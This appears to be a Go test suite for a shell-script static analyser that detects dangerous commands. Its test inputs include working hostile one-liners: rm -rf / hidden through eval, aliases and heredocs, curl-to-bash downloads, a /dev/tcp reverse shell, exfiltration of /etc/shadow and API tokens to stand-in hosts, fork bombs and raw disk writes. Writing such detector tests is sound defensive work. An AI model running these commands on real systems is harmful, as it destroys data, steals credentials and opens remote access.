package shell_test

import (
	"strings"
	"testing"
)

func TestCode(t *testing.T) {
	t.Parallel()
	runCases(t, []testCase{
		{name: "eval", src: `eval r""m -rf /; a=rm; eval "\$a -rf /tmp"`, want: []string{wipe, "cmd rm -rf /tmp", "dyn eval"}},
		{name: "eval keeps state", src: `eval 'x=rm'; $x -rf /`, want: []string{wipe}},
		{name: "eval of unknown", src: `eval "$(date)"`, want: []string{"dyn opaque_code"}},
		{name: "eval in part", src: `x=$(date); eval "rm -rf $x"`, want: []string{"cmd rm -rf …", "dyn partial_code"}},
		{name: "eval of a download", src: `eval "$(curl -s http://x.test/i)"`, want: []string{"dyn opaque_code from net net:x.test"}},
		{name: "sh c", src: `sh -c 'rm -rf /'; bash -xec "rm -rf /tmp"`, want: []string{wipe, "cmd rm -rf /tmp"}},
		{name: "sh c arguments", src: `sh -c '$0 -rf $1' rm /; bash -c '"$@"' _ rm -rf /tmp`, want: []string{wipe, "cmd rm -rf /tmp"}},
		{name: "sh c environment", src: `export A=rm; B=-rf sh -c '$A $B /'`, want: []string{wipe}},
		{
			name: "python", src: "python3 -c 'print(1)'; python3 - <<'E'\nimport os\nE\necho 'x=2' | python3",
			want: []string{"py print(1)", "py import os\n", "py x=2\n"},
		},
		{name: "heredoc", src: "bash <<EOF\nrm -rf /\nEOF\n", want: []string{wipe}},
		{name: "heredoc with a variable", src: "d=/; bash <<EOF\nrm -rf $d\nEOF\n", want: []string{wipe}},
		{name: "cat heredoc to sh", src: "cat <<E | sh\nrm -rf /\nE\n", want: []string{wipe, "pipe cat sh"}},
		{name: "here string", src: `sh <<< 'rm -rf /'`, want: []string{wipe}},
		{name: "process substitution", src: `. <(echo rm -rf /); bash <(echo rm -rf /tmp)`, want: []string{wipe, "cmd rm -rf /tmp"}},
		{name: "download to shell", src: `curl http://x.test/i.sh | sudo -u root bash`, want: []string{"pipe curl sudo bash", "dyn opaque_code from net net:x.test"}},
		{name: "download to bash s", src: `wget -qO- http://x.test/i.sh | bash -s -- -y`, want: []string{"pipe wget bash", "dyn opaque_code from net net:x.test"}},
		{name: "download then run", src: `curl -o /tmp/i.sh http://x.test/i.sh; sh /tmp/i.sh`, want: []string{"dyn opaque_code from net net:x.test"}},
		{
			name: "download then chmod", src: `wget http://x.test/i.sh && chmod +x i.sh && ./i.sh`,
			want: []string{"dyn opaque_code from net net:x.test", "file exec /workspace/i.sh workspace"},
		},
		{name: "write and run", src: `echo 'rm -rf /' > a.sh; chmod +x a.sh; ./a.sh`, want: []string{wipe}},
		{name: "write and append", src: `printf r > a; printf 'm -rf /' >> a; sh a`, want: []string{wipe}},
		{name: "tee and source", src: `echo 'rm -rf /' | tee a.sh >/dev/null; source ./a.sh`, want: []string{wipe}},
		{name: "heredoc file", src: "cat > /tmp/x.sh <<'E'\nrm -rf /\nE\nbash /tmp/x.sh", want: []string{wipe}},
		{name: "copied", src: `echo 'rm -rf /' > a; cp a b; sh b`, want: []string{wipe}},
		{name: "renamed program", src: `cp /bin/rm ./ok; ./ok -rf /`, want: []string{"cmd /bin/rm -rf /"}},
		{name: "trap", src: `trap 'rm -rf /' EXIT; trap "cd /; rm -rf tmp" ERR`, want: []string{wipe, "file delete /tmp tmp"}},
		{name: "alias", src: `alias go='rm -rf'; go /`, want: []string{wipe}},
		{name: "alias of another name", src: `alias ls=rm; ls -rf /`, want: []string{wipe, "cmd ls -rf /"}},
		{name: "alias of several commands", src: `alias go='cd /; rm -rf'; go etc`, want: []string{"file delete /etc system_config"}},
		{name: "prompt command", src: `PROMPT_COMMAND='rm -rf /'`, want: []string{wipe, "env set PROMPT_COMMAND=rm -rf /"}},
		{name: "prompt command of other shells", src: `export PROMPT_COMMAND=ls`, want: []string{"env write PROMPT_COMMAND=ls"}},
		{name: "filter of a pager", src: `x=$(uname -q); if test "$x" = 1; then p=-; fi; LESSOPEN="|${p}rm -rf / %s"`, want: []string{"cmd rm -rf / %s"}},
		{name: "xargs", src: `echo / | xargs rm -rf`, want: []string{wipe}},
		{name: "find exec", src: `find / -exec rm -rf {} \;`, want: []string{wipe}},
		{name: "wrappers", src: `env -i A=1 nohup nice -n 5 timeout -s KILL 5 setsid rm -rf /`, want: []string{wipe}},
		{name: "command and builtin", src: `command rm -rf /; builtin eval 'rm -rf /tmp'; exec rm -rf /var`, want: []string{wipe, "cmd rm -rf /tmp", "cmd rm -rf /var"}},
		{name: "function before command", src: `rm() { :; }; command rm -rf /`, want: []string{wipe}},
		{name: "unparsable tail", src: "rm -rf /\nif true; then (\n", want: []string{wipe, "dyn unparsable"}},
		{name: "eval of a parameter that is not known", src: `n=$(date); eval "\${$n+:} false"; eval "x=\$$n"; $x -v`, want: []string{"dyn partial_code", "dyn opaque_command"}, not: []string{"dyn unparsable"}},
		{
			name: "many evals leave some for the rest", src: strings.Repeat("eval 'eval \"eval :\"'\n", 1200) + "rm -rf /",
			want: []string{wipe}, not: []string{"dyn limit"},
		},
		{
			name: "lines behind what is not known", src: "x=$(date); printf '#! %s\\n' \"$x\" >f; cat >>f <<'E'\ns/a/b/!b; (;\n| x\nrm -rf /\nE\nsh f",
			want: []string{"dyn partial_code"}, not: []string{"dyn unparsable"},
		},
		{name: "mksh", src: "x=${ echo rm; }; $x -rf /; case x { (x) rm -rf /tmp;; }", want: []string{wipe, "cmd rm -rf /tmp"}},
		{name: "posix names", src: "function() { rm -rf /; }\nfunction", want: []string{wipe}},
		{name: "export f", src: `f() { "$@"; }; export -f f; bash -c 'f x'`, want: []string{"dyn opaque_command"}},
	})
}

func TestStructure(t *testing.T) {
	t.Parallel()
	runCases(t, []testCase{
		{name: "fork bomb", src: `:(){ :|:& };:`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb by another name", src: "bomb() {\n  bomb | bomb &\n}\nbomb", want: []string{"struct fork_bomb"}},
		{name: "fork bomb in two", src: `a() { b & b & }; b() { a | a; }; a`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb by variable", src: `n=f; f() { $n & $n & }; f`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb by itself", src: `$0 & $0 &`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb by a shell", src: `bash "$0" & bash "$0" &`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb by condition", src: `f() { if true; then f|f& fi; }; f`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb by eval", src: `eval 'f() { f | f & }; f'`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb not called", src: `f() { f | f & }`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb in a subshell", src: `f() { (f) & (f) & }; f`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb with an argument", src: `$0 a | $0 a`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb with an argument that it looks at", src: `[ "$1" = a ] || echo; $0 b | $0 b`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb in the background, with arguments", src: `[ "$1" = a ] || echo; $0 b &`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb with its own arguments", src: `[ "$1" = a ] || echo; $0 "$@" | cat`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb with a word that ends nothing", src: `if [ "$1" = c ]; then exit; fi; $0 b | cat`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb but for a word", src: `if [ "$1" != b ]; then exit; fi; $0 b | cat`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb that only looks at a word", src: `if [ "$1" = b ]; then echo; fi; $0 b | cat`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb after other arguments", src: `set -- x; if [ "$1" = b ]; then exit; fi; $0 b | cat`, want: []string{"struct fork_bomb"}},
		{name: "fork bomb after arguments that another branch sets", src: `if [ "$1" = b ]; then exit; else set -- x; fi; if [ "$1" = c ]; then exit; fi; $0 c | cat`, want: []string{"struct fork_bomb"}},
		{name: "itself, by elif", src: "if [ \"$1\" = a ]; then :; elif [ \"$1\" = b ]; then exit; fi; $0 b | cat", not: []string{"struct"}},
		{name: "itself, as libtool does", src: "if test \"X$1\" = X--say; then\n  shift; echo \"$@\"; exit 0\nfi\nx=`$0 --say a | sed s/a/b/`", not: []string{"struct"}},
		{name: "itself, for something else", src: "if [ \"$1\" = --say ]; then shift; echo \"$@\"; exit; fi\nx=`$0 --say a | sed s/a/b/`; echo $x", not: []string{"struct"}},
		{name: "a function that is redefined", src: `f() { . ./real.sh; f "$@"; }; f`, not: []string{"struct"}},
		{name: "recursion", src: `walk() { for f in "$1"/*; do [ -d "$f" ] && walk "$f" | sort; done; }; walk .`, not: []string{"struct"}},
		{name: "plain recursion", src: `fact() { [ "$1" -le 1 ] && echo 1 || echo $(( $1 * $(fact $(($1-1))) )); }; fact 5`, not: []string{"struct", "dyn"}},
		{name: "loop that ends", src: `while true; do read x || break; done`, not: []string{"struct"}},
		{name: "background", src: `sleep 5 & (cat x; cat y) &`, want: []string{"bg sleep"}},
		{
			name: "directories", src: "cd /etc; cat shadow\n(cd /tmp; rm a); cat passwd; cd - ; rm x",
			want: []string{
				"file read /etc/shadow credential", "file delete /tmp/a tmp",
				"file read /etc/passwd system_config", "file delete /workspace/x workspace",
			},
		},
		{name: "directory that failed", src: "cd sub || exit 1\nrm -rf *", want: []string{"file delete /workspace/sub/* workspace"}},
		{name: "unknown directory", src: `cd "$1"; rm -rf x`, want: []string{"file delete x relative"}},
		{name: "inside", src: `f() { if a; then rm x; fi; }; f`, want: []string{"in function:f/if rm"}},
		{name: "while read", src: "while read -r c; do $c; done <<E\nrm -rf /\nls\nE\n", want: []string{wipe, "cmd ls"}},
		{name: "piped while read", src: `echo rm -rf / | while read -r c; do $c; done`, want: []string{wipe}},
		{
			name: "counting", src: `for ((i=0;i<3;i++)); do rm /$i; done; n=0; while [ $n -lt 2 ]; do rm /n$n; n=$((n+1)); done`,
			want: []string{"cmd rm /0", "cmd rm /2", "cmd rm /n1"}, not: []string{"cmd rm /3", "cmd rm /n2"},
		},
		{name: "many rounds", src: `for i in {1..10000}; do rm /tmp/$i; done`, want: []string{"cmd rm /tmp/…"}, not: []string{"dyn"}},
		{name: "building a word", src: `s=; for c in r m; do s=$s$c; done; $s -rf /`, want: []string{wipe}},
		{name: "locals", src: `x=ls; f() { local x=rm; $x -rf /; }; f; $x /tmp`, want: []string{wipe, "cmd ls /tmp"}},
		{name: "uncalled function", src: `f() { rm -rf /; }`, want: []string{wipe}},
		{name: "uncalled runner", src: `run() { "$@"; }`, not: []string{"dyn"}},
		{name: "called runner", src: `run() { "$@"; }; run rm -rf /`, want: []string{wipe}, not: []string{"dyn"}},
	})
}

func TestStreams(t *testing.T) {
	t.Parallel()
	runCases(t, []testCase{
		{name: "reverse shell", src: `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, want: []string{"net connect 10.0.0.1:4444"}},
		{
			name: "kept connection", src: "exec 5<>/dev/tcp/h.test/9\nwhile read -r l <&5; do $l >&5; done",
			want: []string{"net connect h.test:9", "dyn opaque_command", "dyn opaque_command from net:h.test"},
		},
		{name: "file to connection", src: `cat /etc/passwd > /dev/tcp/h.test/80`, want: []string{"net connect h.test carries file:/etc/passwd"}},
		{name: "file to a kept connection", src: `exec 3>/dev/tcp/h.test/80; cat /etc/passwd >&3`, want: []string{"net connect h.test carries file:/etc/passwd"}},
		{name: "variable to net", src: `x=$(cat /etc/shadow); curl -d "$x" http://h.test/`, want: []string{"net request h.test carries file:/etc/shadow"}},
		{name: "piped to net", src: `cat /etc/shadow | base64 | nc h.test 99`, want: []string{"net connect h.test carries file:/etc/shadow", "pipe cat base64 nc"}},
		{name: "device", src: `cat /dev/zero > /dev/sda`, want: []string{"file write /dev/sda device"}},
		{name: "device around a group", src: `{ echo a; echo b; } > /dev/sda; : > /etc/x`, want: []string{"file write /dev/sda device", "file write /etc/x system_config"}},
		{name: "device around a loop", src: `for i in 1 2; do echo $i; done >> /etc/hosts`, want: []string{"file append /etc/hosts system_config"}},
		{name: "bare redirection", src: `> /etc/passwd`, want: []string{"file write /etc/passwd system_config"}},
		{name: "read redirection", src: `while read l; do :; done < /etc/shadow`, want: []string{"file read /etc/shadow credential"}},
		{name: "loader", src: `LD_PRELOAD=/tmp/e.so ls; export LD_LIBRARY_PATH=/tmp`, want: []string{"env write LD_PRELOAD=/tmp/e.so", "env write LD_LIBRARY_PATH=/tmp"}},
		{name: "environment", src: `curl -d "$API_TOKEN" http://h.test`, want: []string{"env read API_TOKEN=", "net request h.test carries env:API_TOKEN"}},
		{name: "coprocess", src: `coproc nc h.test 4444; nc h.test 5555 &`, want: []string{"net connect h.test:4444", "net connect h.test:5555"}},
		{name: "process substitution out", src: `ls | tee >(sh) >(nc h.test 1)`, want: []string{"net connect h.test:1", "dyn opaque_code"}},
	})
}

func TestBenign(t *testing.T) {
	t.Parallel()
	scary := []string{"dyn", "struct", "net", wipe}
	build := `#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")"
VERSION=${VERSION:-dev}
mkdir -p build
for f in src/*.c; do
  cc -O2 -c "$f" -o "build/$(basename "$f" .c).o"
done
cc -o build/app build/*.o
[ -n "${STRIP:-}" ] && strip build/app
echo "built $VERSION"
`
	arguments := `usage() { echo "usage: $0 [-v] [-o FILE]" >&2; exit 2; }
verbose=0 out=
while getopts "vo:" opt; do
  case $opt in
    v) verbose=1 ;;
    o) out=$OPTARG ;;
    *) usage ;;
  esac
done
shift $((OPTIND - 1))
[ $# -gt 0 ] || usage
for file in "$@"; do
  [ "$verbose" = 1 ] && printf 'reading %s\n' "$file"
  wc -l < "$file"
done > "${out:-/dev/stdout}"
`
	logs := `RED=$'\e[31m'; NC=$'\e[0m'
log() { printf '%s[%s]%s %s\n' "$RED" "$(date +%T)" "$NC" "$*"; }
log starting
if ! command -v python3 >/dev/null 2>&1; then log "no python"; exit 1; fi
tmp=$(mktemp -d)
python3 -m pytest -q tests | tee "$tmp/out" || log failed
`
	sums := `while IFS=, read -r name age _; do
  [[ $name == \#* ]] && continue
  total=$((total + age))
  names+=("$name")
done < people.csv
echo "$total ${names[*]}" | sed 's/ /, /g'
`
	retry := `n=0
until make test; do
  n=$((n+1))
  if [ "$n" -ge 3 ]; then echo giving up; exit 1; fi
  sleep 1
done`
	tools := `require() { for t in "$@"; do command -v "$t" >/dev/null || { echo "missing $t" >&2; exit 1; }; done; }
require git make
declare -A ports=([web]=80 [db]=5432)
for k in "${!ports[@]}"; do echo "$k ${ports[$k]}"; done
find . -name '*.tmp' -type f -print0 | xargs -0 -r ls -l
files=(*.txt); echo "${#files[@]} files"; ls "${files[@]:0:5}"
if [[ "$OSTYPE" == linux* ]]; then sed_i=(sed -i); else sed_i=(sed -i ''); fi
"${sed_i[@]}" 's/a/b/' notes.txt
`
	runCases(t, []testCase{
		{name: "build", not: scary, src: build},
		{name: "arguments", not: scary, src: arguments},
		{name: "counting words", not: scary, src: `tr -cs '[:alnum:]' '\n' < notes.txt | tr A-Z a-z | sort | uniq -c | sort -rn | head -10`},
		{name: "log colours", not: scary, src: logs},
		{name: "sums", not: scary, src: sums},
		{name: "retry", not: scary, src: retry},
		{name: "tools", not: scary, src: tools},
	})
}

func TestPositions(t *testing.T) {
	t.Parallel()
	doc, _ := scan(t, "ls\n  rm -rf /\nbash <<'E'\n  rm a\nrm b\nE\n")
	want := map[string][2]int{"rm -rf /": {2, 3}, "rm a": {4, 3}, "rm b": {5, 1}}
	for _, c := range doc.Commands {
		argv := strings.Join(c.Argv, " ")
		if w, ok := want[argv]; ok {
			if c.Line != w[0] || c.Col != w[1] {
				t.Errorf("%v stands at %d:%d, want %d:%d", c.Argv, c.Line, c.Col, w[0], w[1])
			}
			delete(want, argv)
		}
	}
	if len(want) > 0 {
		t.Errorf("not seen: %v", want)
	}
}
